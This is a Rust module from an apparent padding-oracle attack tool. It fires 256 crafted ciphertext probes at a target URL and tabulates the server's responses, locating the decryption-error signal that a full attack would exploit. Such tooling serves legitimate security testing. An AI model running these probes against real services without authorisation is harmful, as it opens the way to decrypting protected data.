// Response analysis: brute-force one final-block byte and tabulate how the
// oracle's responses differ, so users can discover the decryption-failure
// signal before committing to a full attack.

use std::collections::BTreeMap;
use std::path::PathBuf;
use std::sync::Arc;

use futures::stream::{self, StreamExt};

use crate::cache::CacheStore;
use crate::engine::DEFAULT_CONCURRENCY;
use crate::error::{Error, Result};
use crate::oracle::{NetworkStatsSnapshot, OracleCaller, OracleResult, RequestOptions};
use crate::transform::PayloadTransform;

pub struct AnalysisOptions<'a> {
    pub url: &'a str,
    pub block_size: usize,
    pub concurrency: usize,
    pub request: RequestOptions,
    pub transform: PayloadTransform,
    pub cache: Option<Arc<dyn CacheStore>>,
    /// Dump each response body under a temp directory for manual diffing.
    pub save_responses: bool,
}

impl<'a> AnalysisOptions<'a> {
    pub fn new(url: &'a str, block_size: usize) -> Self {
        Self {
            url,
            block_size,
            concurrency: DEFAULT_CONCURRENCY,
            request: RequestOptions::default(),
            transform: PayloadTransform::default(),
            cache: None,
            save_responses: true,
        }
    }

    pub fn with_concurrency(mut self, concurrency: usize) -> Self {
        self.concurrency = concurrency;
        self
    }

    pub fn with_request(mut self, request: RequestOptions) -> Self {
        self.request = request;
        self
    }

    pub fn with_cache(mut self, cache: Arc<dyn CacheStore>) -> Self {
        self.cache = Some(cache);
        self
    }
}

#[derive(Debug)]
pub struct AnalysisReport {
    /// Every probed byte value with the response it produced.
    pub responses: Vec<(u8, OracleResult)>,
    pub status_code_freq: BTreeMap<u16, usize>,
    pub body_length_freq: BTreeMap<usize, usize>,
    pub network: NetworkStatsSnapshot,
    pub output_dir: Option<PathBuf>,
}

/// Send one zeroed two-block payload per final-byte value of the first
/// block and aggregate how the oracle answers.
pub async fn analyze_responses(options: AnalysisOptions<'_>) -> Result<AnalysisReport> {
    let AnalysisOptions {
        url,
        block_size,
        concurrency,
        request,
        transform,
        cache,
        save_responses,
    } = options;

    if block_size == 0 {
        return Err(Error::InvalidBlockSize { block_size });
    }
    let caller = OracleCaller::new(url, request, transform, cache)?;
    let caller_ref = &caller;
    let probes = (0u16..=255).map(|byte| byte as u8).map(move |byte| async move {
        let mut payload = vec![0u8; block_size * 2];
        payload[block_size - 1] = byte;
        caller_ref.call(&payload).await.map(|result| (byte, result))
    });
    let mut responses = stream::iter(probes)
        .buffer_unordered(concurrency.max(1))
        .collect::<Vec<_>>()
        .await
        .into_iter()
        .collect::<Result<Vec<_>>>()?;
    responses.sort_by_key(|&(byte, _)| byte);

    let mut status_code_freq = BTreeMap::new();
    let mut body_length_freq = BTreeMap::new();
    for (_, result) in &responses {
        *status_code_freq.entry(result.status_code).or_insert(0) += 1;
        *body_length_freq.entry(result.body.len()).or_insert(0) += 1;
    }

    let output_dir = if save_responses {
        Some(save_response_bodies(&responses)?)
    } else {
        None
    };

    Ok(AnalysisReport {
        responses,
        status_code_freq,
        body_length_freq,
        network: caller.stats(),
        output_dir,
    })
}

fn save_response_bodies(responses: &[(u8, OracleResult)]) -> Result<PathBuf> {
    let dir = std::env::temp_dir().join(format!("padoracle-analysis-{}", std::process::id()));
    std::fs::create_dir_all(&dir)?;
    for (byte, result) in responses {
        let contents = format!(
            "<!--\nsaved by padoracle\n{} {}\n-->\n{}",
            result.status_code, result.url, result.body
        );
        std::fs::write(dir.join(format!("{byte}.html")), contents)?;
    }
    Ok(dir)
}
